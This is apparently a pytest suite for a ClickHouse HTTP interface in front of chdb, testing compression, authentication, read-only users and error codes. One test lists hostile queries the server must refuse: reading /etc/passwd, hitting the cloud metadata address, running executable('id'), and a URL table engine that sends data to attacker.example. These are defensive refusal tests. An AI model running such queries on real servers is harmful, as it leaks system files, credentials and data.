"""ClickHouse's HTTP interface in front of chdb, spoken to by clickhouse-connect and plain HTTP."""
from __future__ import annotations

import base64
import json
import urllib.error
import urllib.parse
import urllib.request
from datetime import datetime, timezone

import lz4.frame
import pytest
from clickhouse_connect.driver.exceptions import DatabaseError

from sink.http import decompress, output_format, split_request
from tests.clickhouse_fixture import READER, WRITER

pytestmark = pytest.mark.clickhouse


def test_concatenated_lz4_frames_are_all_decompressed():
    body = lz4.frame.compress(b"first frame,") + lz4.frame.compress(b"second frame")
    assert decompress(body, "lz4") == b"first frame,second frame"


def test_insert_statement_and_binary_data_are_split_at_the_first_newline():
    sql, data = split_request("", b"INSERT INTO t (a, b) FORMAT Native\n\x02\x00\nbinary\n")
    assert (sql, data) == ("INSERT INTO t (a, b) FORMAT Native", b"\x02\x00\nbinary\n")


def test_the_query_clause_names_the_output_format():
    assert output_format("SELECT 1 FORMAT JSONEachRow", "TabSeparated") == ("SELECT 1", "JSONEachRow")
    assert output_format("SELECT 1", "TSV") == ("SELECT 1", "TSV")


def test_clickhouse_connect_handshakes_queries_and_binds_parameters(clickhouse_client):
    assert clickhouse_client.server_version.startswith("2")
    result = clickhouse_client.query("SELECT {name:String} AS name, {ids:Array(String)} AS ids",
                                     parameters={"name": "it's 🙏", "ids": ["a", "b"]})
    assert result.result_rows == [("it's 🙏", ["a", "b"])]


def test_a_200k_row_insert_arrives_intact(clickhouse_client, tenant):
    table = f"bulk_{tenant.replace('-', '_')}"
    clickhouse_client.command(f"CREATE TABLE {table} (id UInt64, text String, at DateTime64(3, 'UTC'), "
                              "tags Array(String), note Nullable(String)) ENGINE = MergeTree ORDER BY id")
    at = datetime(2025, 11, 25, 9, 30, tzinfo=timezone.utc)
    rows = [[i, f"message {i} ✅", at, ["x"] * (i % 3), None if i % 2 else "n"] for i in range(200_000)]
    clickhouse_client.insert(table, rows, column_names=["id", "text", "at", "tags", "note"])
    counts = clickhouse_client.query(f"SELECT count(), sum(id), countIf(note IS NULL), sum(length(tags)) "
                                     f"FROM {table}").result_rows[0]
    assert counts == (200_000, sum(range(200_000)), 100_000, sum(i % 3 for i in range(200_000)))


def as_user(who: tuple[str, str]) -> dict[str, str]:
    """HTTP basic auth, as clickhouse-connect and Grafana send it."""
    return {"Authorization": "Basic " + base64.b64encode(f"{who[0]}:{who[1]}".encode()).decode()}


def ask(clickhouse_url: str, sql: str, headers: dict | None = None, params: str = "") -> tuple[int, str, str]:
    """(HTTP status, ClickHouse exception code or "", body) of one POST of `sql`."""
    request = urllib.request.Request(f"{clickhouse_url}/?{params}", data=sql.encode(), headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return answer.status, "", answer.read().decode()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.headers.get("X-ClickHouse-Exception-Code", ""), refused.read().decode()


def reader_client(clickhouse_url: str):
    import clickhouse_connect

    return clickhouse_connect.get_client(dsn=clickhouse_url, username=READER[0], password=READER[1],
                                         autogenerate_session_id=False)


def test_anonymous_callers_and_wrong_passwords_are_refused(clickhouse_url, clickhouse_client):
    for headers, params in (({}, ""), (as_user((WRITER[0], "guess")), ""), (as_user(("nobody", WRITER[1])), ""),
                            ({"X-ClickHouse-User": WRITER[0]}, ""), ({}, f"user={READER[0]}&password=guess")):
        status, code, body = ask(clickhouse_url, "DROP TABLE message_facts", headers, params)
        assert (status, code) == (401, "516") and "AUTHENTICATION_FAILED" in body and "guess" not in body
    assert clickhouse_client.command("EXISTS TABLE message_facts") == 1
    with urllib.request.urlopen(clickhouse_url + "/ping", timeout=5) as response:   # liveness stays open
        assert response.read() == b"Ok.\n"


def test_every_way_clickhouse_takes_credentials_is_accepted(clickhouse_url):
    for headers, params in ((as_user(WRITER), ""), ({"X-ClickHouse-User": READER[0], "X-ClickHouse-Key": READER[1]}, ""),
                            ({}, urllib.parse.urlencode({"user": WRITER[0], "password": WRITER[1]}))):
        assert ask(clickhouse_url, "SELECT 1", headers, params) == (200, "", "1\n")


def test_the_readonly_user_reads_but_cannot_write_or_change_anything(clickhouse_url, clickhouse_client, tenant):
    table = f"ro_{tenant.replace('-', '_')}"
    clickhouse_client.command(f"CREATE TABLE {table} (a UInt8) ENGINE = MergeTree ORDER BY a")
    clickhouse_client.command(f"INSERT INTO {table} VALUES (1)")
    reader = reader_client(clickhouse_url)   # clickhouse-connect's handshake is read-only too
    assert reader.query(f"WITH 2 AS two SELECT a * two FROM {table} SETTINGS max_execution_time = 5").result_rows == [(2,)]
    assert reader.command(f"EXISTS TABLE {table}") == 1
    for sql in (f"INSERT INTO {table} VALUES (2)", f"DROP TABLE {table}", f"ALTER TABLE {table} DELETE WHERE 1",
                f"TRUNCATE TABLE {table}", "SET readonly = 0", f"SELECT * FROM {table} SETTINGS readonly = 0",
                f"SELECT 1; DROP TABLE {table}", f"/* SELECT */ INSERT INTO {table} VALUES (3)"):
        status, code, body = ask(clickhouse_url, sql, as_user(READER))
        assert status in (400, 403) and code in ("164", "62"), (sql, status, body)
    with pytest.raises(DatabaseError, match="READONLY"):
        reader.insert(table, [[4]], column_names=["a"])
    assert clickhouse_client.query(f"SELECT groupArray(a) FROM {table}").result_rows == [([1],)]
    reader.close()


@pytest.mark.parametrize("sql", [
    "SELECT * FROM file('/etc/passwd', 'LineAsString')", "SELECT file('/etc/passwd')",
    "SELECT * FROM `url`('http://169.254.169.254/latest/meta-data/', 'LineAsString')",
    "INSERT INTO FUNCTION s3('https://bucket.example/x.csv', 'CSV') SELECT 1",
    "SELECT * FROM remote('10.0.0.5:9000', system.one)", "SELECT * FROM executable('id', 'TSV', 'x String')",
    "CREATE TABLE leak (s String) ENGINE = URL('http://attacker.example/', 'CSV')",
    "SELECT 1 INTO OUTFILE '/tmp/switchboard-leak.txt'", "SELECT 1; SELECT 2",
])
def test_what_reaches_outside_the_engine_is_refused_to_every_user(clickhouse_url, sql):
    for who in (WRITER, READER):
        status, code, body = ask(clickhouse_url, sql, as_user(who))
        assert status in (400, 403) and code in ("446", "62", "164"), (who[0], sql, status, body)


def test_errors_carry_clickhouse_codes(clickhouse_client, clickhouse_url):
    with pytest.raises(DatabaseError, match="Code: 60"):
        clickhouse_client.query("SELECT * FROM no_such_table")
    request = urllib.request.Request(clickhouse_url + "/?query=" + urllib.parse.quote("SELEKT 1"), headers=as_user(WRITER))
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=5)
    assert caught.value.code == 500
    assert caught.value.headers["X-ClickHouse-Exception-Code"] == "62"  # SYNTAX_ERROR
    assert caught.value.read().decode().startswith("Code: 62. DB::Exception:")


def test_curl_style_queries_and_inserts_in_text_formats(clickhouse_url, tenant):
    def post(sql: str, body: bytes = b"") -> bytes:
        url = clickhouse_url + "/?query=" + urllib.parse.quote(sql)
        request = urllib.request.Request(url, data=body or None, headers=as_user(WRITER))
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.read()

    table = f"curl_{tenant.replace('-', '_')}"
    post(f"CREATE TABLE {table} (a UInt8, b String) ENGINE = MergeTree ORDER BY a")
    post(f"INSERT INTO {table} FORMAT JSONEachRow", b'{"a": 1, "b": "x"}\n{"a": 2, "b": "y"}\n')
    lines = post(f"SELECT a, b FROM {table} ORDER BY a FORMAT JSONEachRow").decode().splitlines()
    assert [json.loads(line) for line in lines] == [{"a": 1, "b": "x"}, {"a": 2, "b": "y"}]
    assert post(f"SELECT count() FROM {table}") == b"2\n"
    with urllib.request.urlopen(clickhouse_url + "/ping", timeout=5) as response:
        assert response.read() == b"Ok.\n"
